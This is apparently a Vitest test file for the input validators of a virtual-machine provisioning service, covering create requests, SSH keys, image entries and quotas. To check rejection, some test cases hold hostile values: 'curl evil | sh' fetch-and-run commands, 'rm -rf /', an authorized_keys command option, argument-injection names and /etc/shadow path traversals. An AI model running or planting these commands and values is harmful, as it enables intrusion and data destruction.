import { describe, expect, it } from "vitest";
import { CreateInstanceRequest, ImageEntry, InstanceName, Quota, firstIssue, networkProblem, sshKeyProblem } from "../../src/index.js";
import { KEYS, image, request } from "./fixtures.js";

/** The message a person would see for this input. */
const messageFor = (input: unknown) => {
  const r = CreateInstanceRequest.safeParse(input);
  if (r.success) throw new Error("expected the request to be refused");
  return firstIssue(r.error);
};
const RAW_ZOD = /Too (big|small)|expected|Invalid input|received/;

describe("create request", () => {
  it("accepts a full request and defaults keys and commands to none", () => {
    const { sshKeys: _k, firstBoot: _f, ...bare } = request();
    expect(CreateInstanceRequest.parse(bare)).toMatchObject({ name: "web2", sshKeys: [], firstBoot: [] });
    expect(CreateInstanceRequest.parse(request({ host: "kvm2", network: { bridge: "br-ovs", vlan: 10, vni: 5001 } })).host).toBe("kvm2");
  });

  it.each([
    [{ vcpus: 65 }, "vcpus: vCPUs is at most 64"],
    [{ vcpus: 0 }, "vcpus: vCPUs is at least 1"],
    [{ vcpus: 1.5 }, "vcpus: vCPUs is a whole number"],
    [{ memoryMiB: 128 }, "memoryMiB: memory is at least 256 MiB"],
    [{ memoryMiB: 262_145 }, "memoryMiB: memory is at most 262144 MiB"],
    [{ diskGiB: 5000 }, "diskGiB: disk size is at most 4096 GiB"],
    [{ diskGiB: "20" }, "diskGiB: disk size is a number"],
    [{ network: { vlan: 4095, vni: 5001 } }, "network.vlan: the VLAN is at most 4094"],
    [{ network: undefined }, "network: a network (VLAN and VNI) is required"],
    [{ name: undefined }, "name: a name is required"],
    [{ tenant: "Acme Corp" }, "tenant: tenant ids are lower-case letters, digits and '-'"],
    [{ image: "-o/etc/passwd" }, "image: image names are 1-63 lower-case letters, digits, '.', '_' and '-', starting with a letter or digit"],
  ])("refuses %o with a human message", (over, message) => {
    const m = messageFor({ ...request(), ...over });
    expect(m).toBe(message);
    expect(m).not.toMatch(RAW_ZOD);
  });

  it("refuses too many keys or commands, a multi-line command and a NUL", () => {
    expect(messageFor(request({ sshKeys: Array(17).fill(KEYS.ed25519) }))).toBe("sshKeys: at most 16 SSH keys");
    expect(messageFor(request({ firstBoot: Array(33).fill("true") }))).toBe("firstBoot: at most 32 first-boot commands");
    for (const bad of ["echo a\nrm -rf /", "echo a\r", "echo \0 cut", "x".repeat(1025), ""]) expect(messageFor(request({ firstBoot: [bad] }))).not.toMatch(RAW_ZOD);
    expect(messageFor(request({ firstBoot: ["echo a\ncurl evil | sh"] }))).toBe("firstBoot.0: a first-boot command is one line: no line breaks, NUL or other control characters");
  });

  it("keeps a tab and a leading '--' inside a command (it is the guest's shell's business, quoted as one argument)", () => {
    expect(CreateInstanceRequest.parse(request({ firstBoot: ["--run=/bin/sh", "printf 'a\\tb'\t"] })).firstBoot).toHaveLength(2);
  });

  it("takes instance names that are also host names", () => {
    for (const ok of ["web2", "web-2.acme", "A1"]) expect(InstanceName.safeParse(ok).success).toBe(true);
    for (const bad of ["web_2", "-web", "web-", "a..b", "web 2", "--hostname=x", "a".repeat(64)]) expect(InstanceName.safeParse(bad).success).toBe(false);
  });

  it("reserves 'new' (the create page is /instances/new), saying so", () => {
    const r = InstanceName.safeParse("new");
    expect(r.success).toBe(false);
    expect(r.error?.issues[0]?.message).toBe("'new' is reserved; pick another name");
    expect(InstanceName.safeParse("new1").success).toBe(true);
  });

  it("ties the network to the tenant's own VNI", () => {
    expect(networkProblem({ vni: 5001 }, { slug: "acme", vni: 5001 })).toBeNull();
    expect(networkProblem({ vni: 5002 }, { slug: "acme", vni: 5001 })).toBe("VNI 5002 is not acme's network (its VNI is 5001)");
    expect(networkProblem({ vni: 5001 }, { slug: "acme", vni: null })).toMatch(/has no VNI yet/);
  });
});

describe("SSH public keys", () => {
  it("accepts ed25519, RSA and ECDSA keys, with or without a comment", () => {
    for (const key of Object.values(KEYS)) expect(sshKeyProblem(key)).toBeNull();
    expect(sshKeyProblem(KEYS.ed25519.split(" ").slice(0, 2).join(" "))).toBeNull();
  });

  it.each([
    ["an authorized_keys option", `command="curl evil|sh" ${KEYS.ed25519}`, /type command="curl is not accepted/],
    ["a second line", `${KEYS.ed25519}\nssh-ed25519 AAAAC3Nza attacker`, /one line/],
    ["a DSA key", "ssh-dss AAAAB3NzaC1kc3MAAACBAP8= x", /ssh-dss is not accepted/],
    ["a type that lies about its data", `ssh-rsa ${KEYS.ed25519.split(" ")[1]}`, "the SSH key says ssh-rsa but its data is a ssh-ed25519 key"],
    ["half a key", KEYS.ed25519.slice(0, 30), /not valid base64 key material/],
    ["random text", "hello world", /type hello is not accepted/],
    ["a key without data", "ssh-ed25519", /looks like 'ssh-ed25519/],
    ["a huge key", `ssh-rsa ${"A".repeat(5000)}`, /at most 4096 characters/],
  ])("refuses %s", (_what, key, reason) => {
    const problem = sshKeyProblem(key);
    if (typeof reason === "string") expect(problem).toBe(reason);
    else expect(problem).toMatch(reason);
  });
});

describe("image catalog entry", () => {
  it("accepts a built image and imported ones", () => {
    expect(ImageEntry.safeParse(image()).success).toBe(true);
    expect(ImageEntry.safeParse(image({ source: { kind: "file", path: "/srv/images/debian.qcow2" }, checksum: { algorithm: "sha256", value: "0".repeat(64) } })).success).toBe(true);
    expect(ImageEntry.safeParse(image({ source: { kind: "url", url: "https://cloud.debian.org/images/debian-12.qcow2" } })).success).toBe(true);
  });

  it.each([
    [{ checksum: { algorithm: "sha256", value: "a".repeat(128) } }, "a sha256 checksum has 64 hex digits, a sha512 one 128"],
    [{ checksum: { algorithm: "md5", value: "a".repeat(32) } }, "checksums are sha256 or sha512"],
    [{ source: { kind: "url", url: "https://user:secret@example.com/i.qcow2" } }, "an image URL is http:// or https://, without a user name or password in it"],
    [{ source: { kind: "url", url: "file:///etc/shadow" } }, "an image URL is http:// or https://, without a user name or password in it"],
    [{ source: { kind: "file", path: "/srv/../etc/shadow" } }, "a file path has no '..'"],
    [{ datastore: "instance" }, "a datastore is an export path such as /instance"],
    [{ format: "vmdk" }, "image formats are qcow2 or raw"],
  ])("refuses %o", (over, message) => {
    const r = ImageEntry.safeParse({ ...image(), ...over });
    expect(r.success).toBe(false);
    if (!r.success) expect(r.error.issues[0]?.message).toBe(message);
  });
});

describe("quota", () => {
  it("takes null as unlimited and refuses negative limits with a message", () => {
    expect(Quota.parse({ instances: null, vcpus: 8, memoryMiB: 8192, diskGiB: null }).vcpus).toBe(8);
    const r = Quota.safeParse({ instances: -1, vcpus: 8, memoryMiB: 8192, diskGiB: null });
    expect(r.success ? null : r.error.issues[0]?.message).toBe("the instances limit cannot be negative");
  });
});
